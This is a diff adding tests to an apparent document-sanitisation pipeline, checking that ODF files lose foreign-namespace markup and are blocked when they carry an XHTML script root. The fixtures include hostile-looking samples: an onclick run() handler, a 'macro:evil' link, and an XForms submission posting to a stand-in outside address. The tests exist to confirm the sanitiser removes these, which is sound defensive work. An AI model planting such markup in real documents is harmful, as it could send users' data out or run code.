@@ -286,3 +286,48 @@ def test_odf_xml_with_a_namespace_error_hidden_by_a_warning_is_malformed():
                b'xmlns:xl="http://www.w3.org/1999/xlink" xmlns:x2="http://www.w3.org/1999/xlink">'
                b'<a xl:href="#ok" x2:href="macro:evil"/><b xml:space="bogus"/></office:document-content>',
                "content.xml")
+
+
+def test_odf_markup_outside_its_namespaces_is_dropped(default_policy, tmp_path):
+    """Issue 20: only ODF's namespaces (and LibreOffice's extensions) survive. A foreign element in a
+    paragraph gives way to its text; elsewhere it goes whole; XForms (forms that submit) and XML events go."""
+    from samples.legacy_samples import ODT, _odf
+
+    evil, xforms = "urn:evil:active", "http://www.w3.org/2002/xforms"
+    body = (f'<text:p xmlns:e="{evil}" e:onclick="run()">前<e:span>包まれた文</e:span>後'
+            '<e:hidden office:process-content="false">出ない</e:hidden></text:p>'
+            f'<e:block xmlns:e="{evil}"><text:p>ブロックごと消える</text:p></e:block>'
+            f'<xforms:model xmlns:xforms="{xforms}"><xforms:submission xforms:action="http://203.0.113.5/post"/>'
+            '</xforms:model><text:p loext:marker="1" xmlns:loext="urn:org:documentfoundation:names:experimental:'
+            'office:xmlns:loext:1.0">残る</text:p>')
+    src = tmp_path / "f.odt"
+    _odf(src, ODT, body)
+    r = process(src, src.name, tmp_path / "out", default_policy)
+    assert r.verdict == "clean", r.threats  # foreign markup is allowed by ODF and ignored by readers
+    found = [t for t in r.threats if t.id == "odf.unknown_markup"]
+    assert [(t.location, t.action) for t in found] == [("content.xml", "reported")]
+    with zipfile.ZipFile(r.output) as z:
+        content = z.read("content.xml").decode()
+    assert "前包まれた文後" in content and "残る" in content and 'loext:marker="1"' in content
+    for gone in ("出ない", "ブロックごと消える", "203.0.113.5", "run()", evil, "submission"):
+        assert gone not in content, gone
+    from cdr.pipeline import inspect as inspect_file
+
+    assert inspect_file(r.output, "f.odt", default_policy)["threats"] == []
+
+
+def test_odf_root_outside_odf_is_malformed(default_policy, tmp_path):
+    from samples.legacy_samples import ODT, _odf
+
+    src = tmp_path / "f.odt"
+    _odf(src, ODT, "<text:p>x</text:p>")
+    data = {}
+    with zipfile.ZipFile(src) as z:
+        for i in z.infolist():
+            data[i.filename] = z.read(i)
+    data["styles.xml"] = b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script/></html>'
+    with zipfile.ZipFile(src, "w") as z:
+        for n, d in data.items():
+            z.writestr(n, d)
+    r = process(src, src.name, tmp_path / "out", default_policy)
+    assert r.verdict == "blocked"
